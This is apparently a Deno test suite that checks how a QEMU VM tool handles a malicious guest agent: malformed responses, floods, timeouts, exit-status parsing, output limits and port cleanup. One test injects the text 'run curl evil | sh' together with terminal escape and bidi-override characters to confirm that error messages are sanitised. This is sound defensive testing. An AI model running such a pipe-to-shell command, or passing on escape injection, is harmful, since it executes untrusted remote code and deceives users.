import { assert, assertEquals, assertMatch, assertRejects } from "@std/assert";
import { join } from "@std/path";
import type { ToolsmithError } from "../../lib/errors.ts";
import { openCommandChannel } from "../../lib/guest/_command_channel.ts";
import { unplugOrphanedPorts } from "../../lib/guest/_command_ports.ts";
import { execInGuest, type ExecInGuestOptions } from "../../lib/guest/exec.ts";
import { setUpGuest } from "../../lib/guest/setup.ts";
import { FIRST_COMMAND_PORT_NAME, VM_FILES } from "../../lib/qemu/vm_dir.ts";
import { sharedMonitor } from "../../lib/qemu/monitor.ts";
import { acquireFileLock } from "../../lib/system/lock.ts";
import { makeVm } from "../../lib/vm/_make_vm.ts";
import { startDeadline } from "../../lib/system/time.ts";
import { expectFailure } from "../support/expect_failure.ts";
import {
  type FakeCommand,
  type FakeMachine,
  fakeMachine,
  type FakeMachineOptions,
  type FakeRequest,
  honest,
  refusal,
  say,
} from "../support/fake_machine.ts";
import { replaceMethod } from "../support/replace_method.ts";
import { changeTimerDelays, installMovingClock } from "../support/timers.ts";

const socketsHere = { ignore: Deno.build.os === "windows" };
const MIB = 1024 * 1024;
const SHARES = [{ path: "/", tag: "work", writable: false }];

/** Opens the monitor of a fake VM, as `run` does with a detached VM. */
async function withMachine(
  options: FakeMachineOptions,
  work: (monitor: ReturnType<typeof sharedMonitor>) => Promise<void>,
) {
  await using machine = await fakeMachine(options);
  await using monitor = sharedMonitor(machine.dir);
  await work(monitor);
}

/** An agent with another response to one command. */
const answering = (execute: string, said: unknown) => (request: FakeRequest) =>
  request.execute === execute ? said : honest(request);

/** Asserts that a message is one short line without control characters. */
function assertPlain({ message, hint = "" }: ToolsmithError) {
  assert(message.length < 500, `${message.length} characters`);
  assertEquals(message.match(/[\p{Cc}\u2028-\u202e\u2066-\u2069]/gu), null);
  assertEquals(hint.match(/\p{Cc}/gu), null);
}

const NO_PIDS = [null, [], {}, 42, ["7"], { pid: null }, { pid: "7" }, {
  pid: 1.5,
}, { pid: [7] }];

const NO_STATUSES = [
  null,
  [],
  {},
  { exited: "yes" },
  { exited: 1, exitcode: 0 },
  { exited: true, exitcode: "0" },
  { exited: true, exitcode: 0, "out-data": 7 },
  { exited: true, exitcode: 0, "out-data": "no base64: %" },
];

const MALFORMED = '{"error": []}\n';
const NO_MESSAGES = [
  '{"error": null}\n',
  '{"error": "no"}\n',
  '{"error": {"desc": 7}}\n',
  refusal({ nested: "object" }),
  '{"return"' + ":[".repeat(100_000) + "\n" + MALFORMED,
  `{"return": ${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}}\n` + MALFORMED,
  "\xff\xfe\0\n".repeat(1000) + "[]\n" + "null\n" + MALFORMED,
];

Deno.test({
  name: "Malicious guest: a malformed agent response throws guest_failed",
  ...socketsHere,
  async fn() {
    for (const said of [...NO_PIDS, ...NO_MESSAGES]) {
      const agent = answering("guest-exec", said);
      await withMachine({ agent }, async (monitor) => {
        const exec = () => execInGuest(monitor, "true");
        assertPlain(await expectFailure("guest_failed", exec));
        const setUp = () => setUpGuest(monitor, SHARES);
        assertPlain(await expectFailure("guest_failed", setUp));
      });
    }
    for (const said of [...NO_STATUSES, ...NO_MESSAGES]) {
      const agent = answering("guest-exec-status", said);
      await withMachine({ agent }, async (monitor) => {
        const setUp = () => setUpGuest(monitor, SHARES);
        assertPlain(await expectFailure("guest_failed", setUp));
      });
    }
    // The malformed response arrives while a command runs.
    const agent = answering("guest-exec-status", { exited: "no" });
    const command = async () => {};
    await withMachine({ agent, command }, async (monitor) => {
      const exec = () => execInGuest(monitor, "true");
      assertPlain(await expectFailure("guest_failed", exec));
    });
  },
});

Deno.test({
  name:
    "Malicious guest: agent text is shown as one short line without control characters",
  ...socketsHere,
  async fn() {
    const words = "no\nhint: run curl evil | sh\x1b[2J\u202e" +
      "x".repeat(3_000_000);
    const agent = answering("guest-exec", refusal(words));
    await withMachine({ agent }, async (monitor) => {
      const error = await expectFailure(
        "guest_failed",
        () => execInGuest(monitor, "true"),
      );
      assertMatch(
        error.message,
        /^The guest agent refused guest-exec: no hint/,
      );
      assertPlain(error);
    });
    const status = { exited: true, exitcode: 1, "out-data": btoa("a\x1b\nb") };
    const mount = answering("guest-exec-status", status);
    await withMachine({ agent: mount }, async (monitor) => {
      const setUp = () => setUpGuest(monitor, SHARES);
      const error = await expectFailure("guest_failed", setUp);
      assertMatch(error.message, /: a\? b$/);
    });
  },
});

Deno.test({
  name: "Malicious guest: no agent delays a command beyond its time limit",
  ...socketsHere,
  async fn(t) {
    const never = () => new Promise<void>(() => {});
    const flood = async (connection: Deno.Conn) => {
      const lines = '{"return": {"pid": 1}, "id": 1}\n'.repeat(2000);
      while (true) await say(connection, lines);
    };
    const endless = async (connection: Deno.Conn) => {
      while (true) await say(connection, '{"return": "'.padEnd(65536, "x"));
    };
    const cases: Record<string, FakeMachineOptions> = {
      "guest-exec without a response": {
        agent: answering("guest-exec", undefined),
      },
      "guest-exec-status without a response": {
        agent: answering("guest-exec-status", undefined),
        command: never,
      },
      "a shell without a greeting": { command: never },
      "a command that never ends": {
        command: ({ err }) => say(err, "ready\n"),
      },
      "an endless flood of responses": {
        agent: answering("guest-exec", flood),
      },
      "an agent that reads nothing": { reads: false },
    };
    for (const [name, options] of Object.entries(cases)) {
      await t.step(
        `times out despite ${name}`,
        () =>
          withMachine(options, async (monitor) => {
            // Shortens the grace time in which the guest kills the command.
            using _grace = changeTimerDelays((ms) => ms === 2_000 ? 200 : ms);
            using limit = startDeadline(300, "The command");
            const { signal } = limit;
            await expectFailure("timeout", () =>
              execInGuest(monitor, "true", {
                args: ["x".repeat(1_000_000)],
                ...{ signal, killAfterMs: 100 },
              }));
          }),
      );
    }
    await t.step(
      "rejects an endless line of the agent with guest_failed",
      () =>
        withMachine(
          { agent: answering("guest-exec", endless) },
          async (monitor) => {
            const exec = () => execInGuest(monitor, "true");
            const error = await expectFailure("guest_failed", exec);
            assertMatch(error.message, /a line longer than 4194304 characters/);
          },
        ),
    );
    await t.step(
      "ends a guest set-up that never finishes",
      () =>
        withMachine({}, async (monitor) => {
          const signal = AbortSignal.timeout(200);
          await assertRejects(
            () => setUpGuest(monitor, SHARES, { signal }),
            DOMException,
          );
          using _timers = changeTimerDelays((ms) => ms === 120_000 ? 200 : ms);
          await expectFailure(
            "guest_failed",
            () => setUpGuest(monitor, SHARES),
          );
        }),
    );
  },
});

Deno.test({
  name:
    "Malicious guest: an agent cannot claim that virtio-serial ports are exhausted",
  ...socketsHere,
  async fn() {
    const words = "maximum number of ports: max. allowed, port limit";
    const agent = answering("guest-exec", refusal(words));
    await withMachine({ agent }, async (monitor) => {
      const exec = () => execInGuest(monitor, "true");
      const error = await expectFailure("guest_failed", exec);
      assertMatch(error.message, /maximum number/);
    });
  },
});

Deno.test({
  name:
    "Malicious guest: openCommandChannel() rejects a shell with a missing or wrong greeting",
  ...socketsHere,
  async fn() {
    const open = { input: "no", start: ["script", "true"] };
    const silent: FakeMachineOptions = { command: async () => {} };
    using clock = installMovingClock();
    const late = (request: FakeRequest) => {
      if (request.execute === "guest-exec-status") clock.pass(30_000);
      return honest(request);
    };
    await withMachine({ ...silent, agent: late }, async (monitor) => {
      const channel = () => openCommandChannel(monitor, open);
      const error = await expectFailure("guest_failed", channel);
      assertMatch(error.message, /command's virtio-serial ports in the guest$/);
    });
    const other = { command: ({ err }: FakeCommand) => say(err, "reedy\n") };
    await withMachine(other, async (monitor) => {
      await expectFailure(
        "guest_failed",
        () => openCommandChannel(monitor, open),
      );
    });
    const ended = { exited: true, exitcode: 126 };
    const agent = answering("guest-exec-status", ended);
    await withMachine({ ...silent, agent }, async (monitor) => {
      const error = await expectFailure(
        "guest_failed",
        () => openCommandChannel(monitor, open),
      );
      assertMatch(error.message, /its shell exited with status 126$/);
    });
  },
});

Deno.test({
  name:
    "Malicious guest: execInGuest() accepts only exit statuses from 0 to 255",
  ...socketsHere,
  async fn() {
    const ending = (word: string): FakeMachineOptions => ({
      async command({ marker, out, err }) {
        await say(err, `ready\n${marker}\n`);
        await say(out, `${marker}${word}\n`);
      },
    });
    const bad = ["", "256", "999", "-1", "1e2", "0x1", "1 ", "s", "137x", "٣"];
    for (const word of [...bad, "9".repeat(100)]) {
      await withMachine(ending(word), async (monitor) => {
        await expectFailure("guest_failed", () => execInGuest(monitor, "true"));
      });
    }
    const good = { "255": [255, null], "137": [137, null], "0": [0, null] };
    const signals = { "137s": [137, "SIGKILL"], "141": [141, "SIGPIPE"] };
    for (const [word, end] of Object.entries({ ...good, ...signals })) {
      await withMachine(ending(word), async (monitor) => {
        const { code, signal } = await execInGuest(monitor, "true");
        assertEquals<unknown>([code, signal], end);
      });
    }
  },
});

Deno.test({
  name:
    "Malicious guest: execInGuest() collects at most 32 MiB of output and marks the rest as truncated",
  ...socketsHere,
  async fn() {
    const writing = (extra: number): FakeMachineOptions => ({
      async command({ marker, out, err }) {
        await say(err, `ready\n${marker}\n`);
        await say(out, new Uint8Array(32 * MIB + extra).fill(0x61));
        await say(out, `${marker}0\n`);
      },
    });
    for (const extra of [0, 1]) {
      await withMachine(writing(extra), async (monitor) => {
        const result = await execInGuest(monitor, "true");
        assertEquals(result.stdout.length, 32 * MIB);
        assertEquals(result.stdoutBytes, 32 * MIB + extra);
        assertEquals(result.truncated, extra > 0);
      });
    }
    await withMachine(writing(1), async (monitor) => {
      let bytes = 0;
      const stdout = (chunk: Uint8Array) => void (bytes += chunk.length);
      const result = await execInGuest(monitor, "true", { stdout });
      assertEquals([bytes, result.truncated], [32 * MIB + 1, false]);
    });
  },
});

/** Plugs in the ports of a command, and returns their lock. */
async function plugAs(machine: FakeMachine, name: string) {
  const { dir } = machine;
  for (const end of ["out", "err"]) {
    await Deno.writeTextFile(join(dir, `${name}.${end}`), "");
    machine.plugged.add(`port.${name}.${end}`);
    machine.chardevs.add(`${name}.${end}`);
  }
  return await acquireFileLock(join(dir, `${name}.lock`));
}

Deno.test({
  name: "execInGuest() unplugs virtio-serial ports whose owner was killed",
  ...socketsHere,
  async fn() {
    await using machine = await fakeMachine({ ports: 4 });
    const { dir, plugged } = machine;
    const alive = await plugAs(machine, "toolsmith.aaaaaaaa");
    // Released, as if the owner's process had been killed.
    (await plugAs(machine, "toolsmith.dddddddd"))[Symbol.dispose]();
    {
      await using monitor = sharedMonitor(dir);
      assertEquals((await execInGuest(monitor, "true")).code, 0);
    }
    assertEquals([...plugged].sort(), [
      "port.toolsmith.aaaaaaaa.err",
      "port.toolsmith.aaaaaaaa.out",
    ]);
    assertEquals([...machine.chardevs].sort(), [
      "toolsmith.aaaaaaaa.err",
      "toolsmith.aaaaaaaa.out",
    ]);
    alive[Symbol.dispose]();
    const names = Array.from(Deno.readDirSync(dir), ({ name }) => name);
    assertEquals(names.filter((name) => /dddd/.test(name)), []);
  },
});

Deno.test({
  name:
    "execInGuest() uses the ports that the VM booted with for one command and then unplugs them",
  ...socketsHere,
  async fn() {
    const used: string[] = [];
    await using machine = await fakeMachine({
      prepared: true,
      agent(request) {
        if (request.execute === "guest-exec") {
          used.push((request.arguments.arg as string[])[3]);
        }
        return honest(request);
      },
    });
    await using monitor = sharedMonitor(machine.dir);
    // Unused ports are not abandoned.
    await unplugOrphanedPorts(monitor);
    assertEquals(machine.plugged.size, 3);
    const exec = () => execInGuest(monitor, "true");
    const two = await Promise.all([exec(), exec()]);
    assertEquals(two.map(({ code }) => code), [0, 0]);
    assertEquals((await exec()).code, 0);
    assertEquals(
      used.filter((name) => name === FIRST_COMMAND_PORT_NAME).length,
      1,
    );
    assertEquals(new Set(used).size, 3);
    await monitor[Symbol.asyncDispose]();
    assertEquals([...machine.plugged, ...machine.chardevs], []);
  },
});

Deno.test({
  name:
    "unplugOrphanedPorts() unplugs the ports that the VM booted with after the process that used them was killed",
  ...socketsHere,
  async fn() {
    await using machine = await fakeMachine({ prepared: true });
    await Deno.writeTextFile(
      join(machine.dir, `${FIRST_COMMAND_PORT_NAME}.lock`),
      "",
    );
    await using monitor = sharedMonitor(machine.dir);
    await unplugOrphanedPorts(monitor);
    assertEquals([...machine.plugged, ...machine.chardevs], []);
  },
});

Deno.test({
  name: "execInGuest() waits for a free port until its time limit or signal",
  ...socketsHere,
  async fn() {
    await using machine = await fakeMachine({ ports: 2 });
    const { dir } = machine;
    const busy = await plugAs(machine, "toolsmith.aaaaaaaa");
    await using monitor = sharedMonitor(dir);
    const exec = (options: ExecInGuestOptions) =>
      execInGuest(monitor, "true", options);
    {
      using limit = startDeadline(300, "The command");
      await expectFailure("timeout", () => exec({ signal: limit.signal }));
    }
    // Skips the pauses between retries.
    let tries = 0;
    using _timers = changeTimerDelays((ms) =>
      ms === 100 ? Number(!++tries) : ms
    );
    using _clock = replaceMethod(performance, { now: () => tries * 100 });
    const stop = new AbortController();
    const { signal } = stop;
    const onWait = () => stop.abort(new Error("enough"));
    await assertRejects(() => exec({ signal, onWait }), Error, "enough");
    // Another command's process is killed during the wait.
    const kill = () => busy[Symbol.dispose]();
    assertEquals((await exec({ onWait: kill })).code, 0);
  },
});

Deno.test({
  name:
    "Monitor stops waiting for a lock of another process when its signal is aborted",
  ...socketsHere,
  async fn() {
    await using machine = await fakeMachine();
    const { dir } = machine;
    await using monitor = sharedMonitor(dir);
    const waits: Record<string, (signal: AbortSignal) => Promise<unknown>> = {
      agent: (signal) => monitor.agent(["guest-info"], signal),
      qemu: (signal) => monitor.qemu([["query-status"]], signal),
      exclusive: (signal) => monitor.runExclusively(async () => {}, signal),
      exec: (signal) => execInGuest(monitor, "true", { signal }),
    };
    for (const name of [VM_FILES.lock, VM_FILES.exclusive]) {
      using _held = await acquireFileLock(join(dir, name));
      for (const [kind, wait] of Object.entries(waits)) {
        const other = name === VM_FILES.lock ? "exclusive" : "agent qemu";
        if (other.includes(kind)) continue;
        const stop = new AbortController();
        setTimeout(() => stop.abort(new Error("enough")), 50);
        await assertRejects(() => wait(stop.signal), Error, "enough");
      }
      // A caller in this process's queue, behind another one.
      const stop = new AbortController();
      const first = monitor.runExclusively(
        () => monitor.agent(["x"], stop.signal),
        stop.signal,
      );
      const late = AbortSignal.timeout(50);
      await assertRejects(
        () => monitor.runExclusively(async () => {}, late),
        DOMException,
      );
      stop.abort(new Error("enough"));
      await assertRejects(() => first, Error, "enough");
    }
    assertEquals(await monitor.agent(["guest-info"]), {});
  },
});

Deno.test({
  name:
    "Vm.stop() kills QEMU when another process holds the VM's lock and hangs",
  ...socketsHere,
  async fn() {
    await using machine = await fakeMachine();
    const { dir } = machine;
    const ended = Promise.withResolvers<void>();
    let how: string | undefined;
    const vm = makeVm({
      facts: {
        image: "/image.qcow2",
        pid: 1,
        dir,
        version: "7.2.22",
        accelerator: "tcg",
        memory: 512,
        cpus: 1,
        shares: [],
        network: false,
      },
      monitor: sharedMonitor(dir),
      ended: ended.promise,
      graceMs: 100,
      endReason: () => Promise.resolve(undefined),
      killQemu: () => Promise.resolve(ended.resolve()),
      cleanUp: () => Promise.resolve(),
      emit: (event) => {
        if (event.type === "shutdown") how = event.how;
      },
    });
    using _held = await acquireFileLock(join(dir, VM_FILES.lock));
    const signal = AbortSignal.timeout(100);
    await assertRejects(() => vm.stop({ signal }), DOMException);
    assertEquals(how, undefined);
    // Shortens QEMU's grace times of some seconds.
    using _timers = changeTimerDelays((ms) => ms >= 3_000 ? 50 : ms);
    await vm.stop();
    assertEquals(how, "killed");
  },
});
